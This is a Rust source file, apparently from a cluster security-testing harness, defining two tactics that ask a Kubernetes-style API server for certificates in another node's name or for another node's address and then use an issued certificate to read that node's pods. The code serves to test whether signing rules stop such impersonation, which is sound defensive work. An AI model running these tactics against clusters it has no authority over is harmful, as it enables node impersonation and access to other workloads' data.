//! The attacker asks for certificates that are another node's to have.

use super::Tactic;
use super::certify::{Outcome, Wish, certify};
use super::spend::{Shown, for_ask, request};
use crate::field::{Field, Probe};
use crate::holdings::{Held, Secret};
use crate::notes::Notes;
use crate::target::{Ask, NodeAt, Speaks, Target};
use async_trait::async_trait;
use ravelin_oracle::{Attempt, GainKind, Property, Protection};

/// Asking for a certificate in another node's name (attacks on node bootstrap: whoever holds a
/// bootstrap token may be any node).
pub struct AnothersName;

/// Asking for a certificate for another node's address (feeds the impersonation of KEP-4872).
pub struct AnothersAddress;

/// What is at stake: the certificate is a credential that is not the attacker's.
const AIMS: [Property; 2] = [Property::AccessControlled, Property::CredentialSafe];

#[async_trait(?Send)]
impl Tactic for AnothersName {
    fn name(&self) -> &'static str {
        "ask-for-another-nodes-name"
    }

    async fn run(&self, field: &Field, target: &Target, probe: Probe<'_>) -> Attempt {
        let notes = Notes::new(field);
        probe.await;
        let Some(victim) = target.nodes.first() else { return notes.finish() };
        let wish = Wish::node_client(&victim.name);
        for_each_credential(&notes, async |held| {
            if let Some(identity) = wished(&notes, target, (&wish, held, &AIMS)).await {
                use_as(&notes, target, (victim, &identity)).await;
            }
        })
        .await;
        notes.finish()
    }
}

#[async_trait(?Send)]
impl Tactic for AnothersAddress {
    fn name(&self) -> &'static str {
        "ask-for-another-nodes-address"
    }

    async fn run(&self, field: &Field, target: &Target, probe: Probe<'_>) -> Attempt {
        let notes = Notes::new(field);
        probe.await;
        let Some(victim) = target.nodes.first() else { return notes.finish() };
        // Who has a node asks in its own name, as the signer wants; others in the victim's.
        let own = field.holdings().node.as_deref().unwrap_or(&victim.name);
        let wish = Wish::node_serving(own, victim.address);
        let aims = [Property::AccessControlled];
        for_each_credential(&notes, async |held| {
            // What it is issued is all it wants here.
            let _ = wished(&notes, target, (&wish, held, &aims)).await;
        })
        .await;
        notes.finish()
    }
}

async fn for_each_credential(notes: &Notes<'_>, mut with: impl AsyncFnMut(Option<&Held>)) {
    let credentials = notes.field().credentials();
    for held in std::iter::once(None).chain(credentials.iter().map(Some)) {
        with(held).await;
    }
}

/// Asks for the certificate, and says what came of it.
async fn wished(
    notes: &Notes<'_>,
    target: &Target,
    (wish, held, aims): (&Wish, Option<&Held>, &[Property]),
) -> Option<Secret> {
    let flow = notes.field().flow(target.apiserver);
    let with = held.map_or("no credential", |held| held.what.as_str());
    let shown = held.map_or_else(Shown::default, |held| Shown::of(&held.secret));
    let names: Vec<String> = wish.sans.iter().map(ToString::to_string).collect();
    let what = match names.as_slice() {
        [] => format!("a certificate in the name of {}", wish.subject.common_name),
        names => format!("a serving certificate for {}", names.join(", ")),
    };
    match certify(notes, target, (wish, &shown)).await {
        Outcome::Issued(identity) => {
            notes.gained(&flow, GainKind::BeyondRights, format!("was issued {what} with {with}"));
            return Some(Secret::Certificate(*identity));
        }
        Outcome::NotSigned(why) => {
            let text = format!("{what} was asked for with {with}: {why}");
            notes.refused(&flow, Protection::SigningRules, text, aims);
        }
        Outcome::NotTaken(answer) => {
            notes.tell(format!("{flow}: asked for {what} with {with}"));
            notes.refused_by_answer(&flow, &answer, aims);
        }
        Outcome::Nothing => notes.tell(format!("{flow}: no answer")),
    }
    None
}

/// Reads what only that node may read.
async fn use_as(notes: &Notes<'_>, target: &Target, (victim, identity): (&NodeAt, &Secret)) {
    let (to, flow) = (target.apiserver, notes.field().flow(target.apiserver));
    let pods = format!("/api/v1/pods?fieldSelector=spec.nodeName%3D{}", victim.name);
    let wanted = Ask::get(&pods, "the pods of another node");
    let asked = (for_ask(&wanted, to), Shown::of(identity));
    match request(notes, to, Speaks::Https, asked).await {
        Ok(answer) if answer.granted() => {
            notes.learned(&flow, answer.body);
            let text = format!("{} as {}", wanted.deed(), victim.name);
            notes.gained(&flow, GainKind::CredentialUsed, text);
        }
        Ok(answer) => notes.tell(format!("{flow}: the certificate was answered {}", answer.status)),
        Err(_) => notes.tell(format!("{flow}: the certificate was not answered")),
    }
}
